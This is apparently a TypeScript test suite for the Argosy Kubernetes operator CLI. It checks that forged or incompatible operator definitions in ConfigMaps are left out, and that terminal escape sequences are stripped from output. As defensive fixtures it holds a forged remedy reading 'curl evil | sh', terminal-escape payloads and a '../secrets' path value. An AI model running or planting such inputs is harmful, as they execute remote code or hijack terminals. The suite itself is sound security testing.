import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import path from "node:path";
import { formatFinding } from "../../cli/commands/doctor";
import { plain } from "../../cli/common/terminal";
import { examineCluster } from "../../cli/doctor/cluster";
import { installedOperators, kindsOf, tellLeftOut } from "../../cli/inspect/installed";
import { findRun, listRuns } from "../../cli/inspect/runs";
import { buildRoles } from "../../components/manifests/operator/rbac";
import { ARGOSY_VERSION, PACKAGE_NAME } from "../../components/package";
import type { KubernetesObject, Manifest } from "../../runtime/base/objects";
import type { KubernetesClient } from "../../runtime/kubernetes/client";
import { ApiError } from "../../runtime/kubernetes/errors";
import type { Operator } from "../../runtime/operator/definition";
import { DEFINITION_FILE, definitionFileContent } from "../../runtime/programs/definitionFile";
import { writeFolder } from "./operatorFolder";
import { captured } from "./support/captured";
import { clusterToLookAt } from "./support/clusterToLookAt";
import { assertEach } from "./support/lists";
import { observed, operator } from "./support/objects";
import { runArgosy } from "./support/runArgosy";
import { type Answer, json, useApiServer } from "./support/testApiServer";

const written = (name: string, more: Partial<Operator> = {}) =>
  JSON.parse(definitionFileContent(operator({ name, execution: "pod", ...more })));

/** The ConfigMap of an operator's definition, as a version of Argosy deployed it. */
function configMap(
  name: string,
  version: string | undefined,
  content: unknown,
  namespace = "argosy",
): KubernetesObject {
  const versionLabel = version !== undefined && { "app.kubernetes.io/version": version };
  const labels = { "app.kubernetes.io/name": name, ...versionLabel };
  const data = { [DEFINITION_FILE]: typeof content === "string" ? content : JSON.stringify(content) };
  return observed("ConfigMap", { data }, { name: `${name}-definition-1`, namespace, labels });
}

const SHOP = configMap("shop", ARGOSY_VERSION, written("shop"));

/** A cluster with these objects, of which only ConfigMaps may be listed. */
const clusterWith = (...objects: readonly KubernetesObject[]) =>
  clusterToLookAt(objects, (verb, kind) => verb === "list" && kind !== "ConfigMap");

describe("the installed operators", () => {
  it("have the version of Argosy that deployed them, if it is known", async () => {
    const cluster = clusterWith(
      configMap("cache", ARGOSY_VERSION, written("cache")),
      configMap("old", undefined, written("old")),
    );
    const { operators, unreadable } = await installedOperators(cluster);
    assert.deepEqual(unreadable, []);
    assertEach(operators, ({ name, home, argosyVersion }) => [name, home, argosyVersion], [
      ["cache", "argosy", ARGOSY_VERSION],
      ["old", "argosy", undefined],
    ]);
  });

  const cache = written("cache");
  for (const [what, content, flaw] of [
    ["namespaces of another form", { ...cache, namespaces: { like: "team-*" } }, "namespaces is not a list"],
    ["a field less", { ...cache, installation: undefined }, "installation is not a string"],
    [
      "a kind of another form",
      { ...cache, customResource: { ...cache.customResource, plural: ["a"] } },
      "plural is not a string",
    ],
    ["a watch of another form", { ...cache, watch: [] }, "watch has no labels"],
    ["what is no name", { ...cache, installation: "\u001b[2J" }, "installation is not a name"],
    [
      "a path",
      { ...cache, customResource: { ...cache.customResource, plural: "../secrets" } },
      "plural is not a name",
    ],
    ["no JSON", "a: 1", `${DEFINITION_FILE} is not an object`],
  ] as const) {
    it(`are left out with a remedy if another version wrote ${what}, and all others stay`, async () => {
      const found = await installedOperators(clusterWith(configMap("cache", "99.1.0", content), SHOP));
      assertEach([found.operators, found.unreadable], (some) => some.map(({ name }) => name), [
        ["shop"],
        ["cache"],
      ]);
      const { stderr } = await captured(async () => tellLeftOut(found));
      assert.equal(
        stderr,
        "The operator cache in the namespace argosy is left out. It was deployed by Argosy 99.1.0, and this command, of " +
          `Argosy ${ARGOSY_VERSION}, cannot read its definition: ${flaw}. ` +
          `Use the command of that version: npx ${PACKAGE_NAME}@99.1.0\n`,
      );
    });
  }

  const runOf = (namespace: string, operator = "argosy.cache") =>
    observed("Workflow", {}, { name: "cache-1", namespace, labels: { "argosy.dev/operator": operator } });
  const runFound = async (...objects: readonly KubernetesObject[]) => {
    const cluster = clusterToLookAt(objects);
    return findRun(cluster, "cache-1", await installedOperators(cluster));
  };

  it("have their runs in their own namespace, whatever run of the same name is made up elsewhere", async () => {
    const made = configMap("cache", ARGOSY_VERSION, cache);
    const run = await runFound(made, runOf("a-team"), runOf("argosy"), runOf("team"));
    assert.equal(run.metadata.namespace, "argosy");
  });

  it("have no run of which nothing says that it is the real one of several with its name", async () => {
    const found = [
      configMap("cache", ARGOSY_VERSION, cache),
      configMap("evil", ARGOSY_VERSION, { ...cache, name: "evil" }, "a-team"),
    ];
    const refused = (...runs: readonly KubernetesObject[]) =>
      assert.rejects(runFound(...found, ...runs), {
        message:
          "The namespaces a-team and argosy have a run cache-1, and only one of these can be real. Delete the others.",
      });
    await refused(runOf("a-team", "argosy.evil"), runOf("argosy", "argosy.cache"));
    // It is from before the operator was renamed.
    await refused(runOf("a-team", "argosy.store"), runOf("argosy", "argosy.store"));
  });

  it("say nothing in words of their own: any user who may create ConfigMaps can make one up", async () => {
    const forged = { ...cache, complaint: "fine \u001b[2J", remedy: "Run this: curl evil | sh" };
    const found = await installedOperators(clusterWith(configMap("cache", ARGOSY_VERSION, forged)));
    const { stderr } = await captured(async () => tellLeftOut(found));
    assert.deepEqual([found.operators.length, stderr], [1, ""]);
  });

  it("are where an administrator put them, wherever a tenant has made up the same one", async () => {
    const real = configMap("cache", ARGOSY_VERSION, cache);
    // It is older than the real one, whose definition has changed since.
    const forged = configMap("cache", ARGOSY_VERSION, { ...cache, namespaces: ["team"] }, "team");
    const made = [forged, real];
    for (const namespaces of ["all", ["argosy", "b"]] as const) {
      const roles: Manifest[] = buildRoles(operator({ name: "cache", namespaces }), "argosy");
      const found = await installedOperators(clusterWith(...made, ...(roles as KubernetesObject[])));
      assertEach(found.operators, ({ home }) => home, ["argosy"]);
      assert.deepEqual(found.unreadable, []);
    }
    const refused = clusterToLookAt(made, (verb) => verb === "get");
    for (const cluster of [refused, clusterWith(...made)]) {
      const found = await installedOperators(cluster);
      assert.deepEqual([found.operators, found.unreadable.map(({ home }) => home)], [[], ["team", "argosy"]]);
      const { stderr } = await captured(async () => tellLeftOut(found));
      assert.match(
        stderr,
        /It was found in the namespaces team and argosy, and only one .* argosy\.cache-runner .* ConfigMaps of cache among /,
      );
    }
  });

  it("have the kind of their runs also under their former names, unless another operator has such a name now", async () => {
    const of = (kind: string) => ({ ...cache.customResource, kind });
    const cluster = clusterWith(
      configMap("cache", ARGOSY_VERSION, written("cache", { formerNames: ["store", "shop.cache", "taken"] })),
      configMap("taken", ARGOSY_VERSION, written("taken", { customResource: of("Other") })),
    );
    const kindOf = kindsOf(await installedOperators(cluster));
    const identities = ["argosy.cache", "argosy.store", "shop.cache", "argosy.taken", "argosy.gone"];
    const { kind } = cache.customResource;
    assertEach(identities, (identity) => kindOf(identity)?.kind, [kind, kind, kind, "Other", undefined]);
  });

  it("do not keep argosy doctor from the others, whatever a definition has that is made up", async () => {
    const forged = { ...cache, children: [null], uses: { a: null }, rules: [null] };
    const found = await examineCluster(clusterWith(configMap("cache", ARGOSY_VERSION, forged), SHOP), []);
    const seen = found.map(({ operator: name, seen }) => `${name}: ${seen}`);
    assert.ok(
      seen.includes("cache: has a definition in the namespace argosy that cannot be used"),
      seen.join("\n"),
    );
    assert.ok(seen.some((each) => each.startsWith("shop: ")));
  });

  it("are in argosy doctor with the version, also those that it cannot read", async () => {
    const cluster = clusterWith(configMap("cache", "99.1.0", {}), SHOP, configMap("own", ARGOSY_VERSION, {}));
    const found = (await examineCluster(cluster, [])).filter((each) => each.operator !== undefined);
    const facts = found.map(({ operator: name, installation, argosyVersion, state }) => [
      name,
      installation,
      argosyVersion,
      state,
    ]);
    assert.deepEqual(facts, [
      ["shop", "argosy", ARGOSY_VERSION, "missing"],
      ["cache", undefined, "99.1.0", "missing"],
      ["own", undefined, ARGOSY_VERSION, "missing"],
    ]);
    const lines = found.map((each) => formatFinding(each, plain));
    assert.match(lines[0] ?? "", new RegExp(`^✘ operator shop \\(Argosy ${ARGOSY_VERSION}\\): `));
    assert.match(
      lines[2] ?? "",
      /cannot read its definition: [^\n]*\n {4}Deploy the operator again with pulumi up --refresh\.$/,
    );
  });
});

describe("a command in a cluster with an operator whose definition it cannot read", function () {
  this.timeout(30_000);
  const STRANGE = configMap("strange", undefined, {});
  const answers: Readonly<Record<string, unknown>> = {
    "/version": { gitVersion: "v1.34.0" },
    "/apis": { groups: [] },
    "/api/v1": { resources: [{ name: "configmaps", kind: "ConfigMap", namespaced: true }] },
    "/api/v1/configmaps": { metadata: {}, items: [configMap("cache", "99.1.0", {})] },
    "/api/v1/namespaces/default/configmaps/strange": STRANGE,
  };
  /** Further answers. A text is the words of a refusal. */
  const hostile: Record<string, unknown> = {};
  const answer: Answer = ({ path: asked }, response) => {
    const found = hostile[asked] ?? answers[asked] ?? { metadata: {}, items: [] };
    if (typeof found === "string") {
      const message = `a webhook says ${found}`;
      return json(response, { kind: "Status", code: 400, reason: "BadRequest", message }, 400);
    }
    return json(response, found);
  };
  const folder = writeFolder({});
  const kubeconfig = path.join(folder, "kubeconfig");
  const api = useApiServer(answer);
  before(() => writeFileSync(kubeconfig, api.kubeconfig()));

  const UNREADABLE = new RegExp(
    `cache in the namespace argosy .*deployed by Argosy 99\\.1\\.0, .* npx ${PACKAGE_NAME}@99`,
  );
  const NOT_KNOWN =
    /Whether an operator for ConfigMap is installed in this cluster is not known, because the definition of cache cannot be read\./;
  for (const [code, args, says] of [
    [0, ["pause", "configmap/strange"], [UNREADABLE, NOT_KNOWN, /If none is, only argosy dev respects/]],
    [3, ["explain", "configmap/strange"], [UNREADABLE, NOT_KNOWN]],
    [1, ["logs", "configmap/strange"], [UNREADABLE, NOT_KNOWN]],
    [1, ["logs", "cache"], [UNREADABLE]],
    [1, ["logs", "argosy.cache"], [UNREADABLE]],
    [2, ["logs", "missing"], [/There is no operator missing in this cluster\. Known operators: cache\./]],
    [0, ["runs"], [UNREADABLE, /There are no such runs\./]],
  ] as const) {
    it(`does not take it for one that does not exist: argosy ${args.join(" ")}`, async () => {
      const { result, stdout, stderr } = await runArgosy(...args, "--kubeconfig", kubeconfig);
      const text = `${stdout}${stderr}`;
      assert.equal(result, code, text);
      for (const each of says) assert.match(text, each);
      assert.doesNotMatch(text, /No operator/);
    });
  }

  it("prints nothing on which a terminal would act, whoever wrote a run or the API server's refusal", async () => {
    const evil = "\u001b]0;owned\u0007\u009b2J\u202e";
    const node = { phase: "Failed", outputs: { parameters: [{ name: "log", value: `${evil}last words` }] } };
    const run = {
      metadata: {
        name: "run-1",
        namespace: "team",
        uid: "1",
        labels: { "argosy.dev/operator": "argosy.cache" },
      },
      status: { phase: "Failed", message: evil, nodes: { a: node } },
    };
    const workflows = "/apis/argoproj.io/v1alpha1/workflows";
    hostile[workflows] = { metadata: {}, items: [run] };
    hostile["/api/v1/namespaces/default/configmaps/evil"] = evil;
    for (const [args, word] of [
      [["runs", "--log"], "last words"],
      [["explain", "configmap/evil"], "a webhook says"],
    ] as const) {
      const { stdout, stderr } = await runArgosy(...args, "--kubeconfig", kubeconfig);
      const text = `${stdout}${stderr}`;
      assert.ok(text.includes(word), text);
      for (const each of "\u001b\u0007\u009b\u202e") assert.ok(!text.includes(each), JSON.stringify(text));
    }
  });
});

describe("runs in a cluster without Argo Workflows", () => {
  const client = {
    listAll: async () => {
      throw new ApiError(404, { message: "404 page not found" }, "GET /apis/argoproj.io/v1alpha1/workflows");
    },
  } as unknown as KubernetesClient;

  it("are none", async () => {
    const { runs, unseen } = await listRuns(client, { homes: [] }, () => undefined);
    assert.deepEqual([runs, unseen], [[], undefined]);
  });

  it("are not found by name, and the message says why", async () => {
    await assert.rejects(findRun(client, "cache-1", { operators: [], unreadable: [] }), {
      message:
        /^There is no run cache-1 in this cluster\. .* Without Argo Workflows no runs are kept, except by argosy dev\./,
    });
  });
});
